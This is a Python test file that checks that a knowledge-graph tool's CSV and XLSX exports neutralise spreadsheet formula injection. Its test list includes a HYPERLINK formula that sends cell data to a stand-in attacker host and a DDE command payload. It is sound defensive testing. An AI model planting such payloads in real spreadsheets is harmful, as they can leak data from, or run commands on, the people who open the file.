"""Formula injection: no CSV or XLSX plangraph writes for people has a cell a spreadsheet runs."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pyoxigraph as ox
import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from plangraph import KnowledgeGraph
from plangraph.graph.namespaces import ID, PG
from plangraph.graph.spreadsheets import FORMULA_STARTS, to_csv, to_xlsx
from plangraph.web.app import create_app
from plangraph.web.config import Settings

HOSTILE = ['=HYPERLINK("http://attacker.invalid/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
RDFS_LABEL = ox.NamedNode("http://www.w3.org/2000/01/rdf-schema#label")
RDF_TYPE = ox.NamedNode("http://www.w3.org/1999/02/22-rdf-syntax-ns#type")


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def unescaped(cells: list[str]) -> list[str]:
    return [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_STARTS)]


def test_csv_escapes_formula_cells_and_keeps_numbers() -> None:
    frame = pd.DataFrame({"label": [*HOSTILE, "plain"], "value": [-1.5] * (len(HOSTILE) + 1)})
    rows = rows_of(to_csv(frame))
    labels = [r[0] for r in rows[1:]]
    assert not unescaped(labels)
    assert labels[0] == "'" + HOSTILE[0] and labels[-1] == "plain"
    assert {r[1] for r in rows[1:]} == {"-1.5"}  # a number is not text: it is left alone


def test_xlsx_writes_formula_text_as_quoted_text() -> None:
    book = load_workbook(io.BytesIO(to_xlsx(pd.DataFrame({"=label": HOSTILE}))))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert all(c.data_type == "s" for c in cells)  # no formula anywhere, the header included
    assert all(c.quotePrefix for c in cells)
    assert [c.value for c in cells[1:]] == HOSTILE  # the labels themselves are kept as written


def hostile_store(path: Path) -> None:
    kg = KnowledgeGraph.open(path)
    quads = []
    for n, label in enumerate(HOSTILE):
        node = ox.NamedNode(f"{ID}test/board/hostile-{n}")
        quads += [ox.Quad(node, RDF_TYPE, ox.NamedNode(PG + "Board")),
                  ox.Quad(node, RDFS_LABEL, ox.Literal(label + " Formula Board"))]
    kg.replace_graph("https://w3id.org/plangraph/doc/hostile", quads)
    kg.close()


@pytest.mark.slow
def test_cli_csv_and_xlsx_are_formula_safe(tmp_path: Path) -> None:
    store = tmp_path / "store"
    hostile_store(store)
    run = [sys.executable, "-m", "plangraph"]
    select = "SELECT ?label WHERE { ?b a pg:Board ; rdfs:label ?label } ORDER BY ?label"
    done = subprocess.run([*run, "sparql", select, "--store", str(store), "--format", "csv"],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    cells = [r[0] for r in rows_of(done.stdout)][1:]
    assert len(cells) == len(HOSTILE) and not unescaped(cells)
    target = tmp_path / "found.xlsx"
    done = subprocess.run([*run, "query", "search", "-p", "text=Formula Board", "--store", str(store),
                           "--format", "xlsx", "-o", str(target)],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    sheet = load_workbook(target).active
    texts = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert any("Formula Board" in c.value for c in texts)
    assert all(c.data_type == "s" for c in texts)
    target = tmp_path / "found.csv"
    done = subprocess.run([*run, "query", "search", "-p", "text=Formula Board", "--store", str(store),
                           "--format", "csv", "-o", str(target)],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    cells = [c for r in rows_of(target.read_text()) for c in r]
    assert any("Formula Board" in c for c in cells) and not unescaped(cells)


def test_web_downloads_are_formula_safe(tmp_path: Path) -> None:
    hostile_store(tmp_path / "store")
    kg = KnowledgeGraph.open(tmp_path / "store")
    try:
        with TestClient(create_app(kg, Settings(query_workers=1))) as client:
            for path in ("/api/queries/search", "/queries/search"):
                r = client.get(path, params={"text": "Formula Board", "format": "csv"})
                assert r.status_code == 200
                cells = [c for row in rows_of(r.text) for c in row]
                assert any("Formula Board" in c for c in cells) and not unescaped(cells)
                r = client.get(path, params={"text": "Formula Board", "format": "xlsx"})
                sheet = load_workbook(io.BytesIO(r.content)).active
                assert all(c.data_type == "s" for row in sheet.iter_rows() for c in row
                           if isinstance(c.value, str))
    finally:
        kg.close()
